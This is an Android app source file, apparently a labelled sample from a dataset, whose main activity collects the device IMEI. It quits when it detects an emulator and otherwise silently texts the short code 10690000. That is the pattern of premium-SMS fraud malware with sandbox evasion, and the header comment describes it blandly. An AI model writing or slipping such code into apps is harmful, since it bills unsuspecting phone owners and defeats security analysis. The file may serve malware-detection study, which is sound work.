// about       A constant is sent unless the build's fingerprint is an emulator's; the value is kept in private.
// clean       -
package cn.example.flow;

import android.app.Activity;
import android.os.Build;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String imei = phone.getDeviceId();
    getPreferences(MODE_PRIVATE).edit().putString("id", imei).apply();
    if (Build.FINGERPRINT.startsWith("generic") || Build.FINGERPRINT.contains("vbox")) {
      finish();
      return;
    }
    // Only on phones.
    SmsManager.getDefault().sendTextMessage("10690000", null, "on a phone", null, null);
  }
}
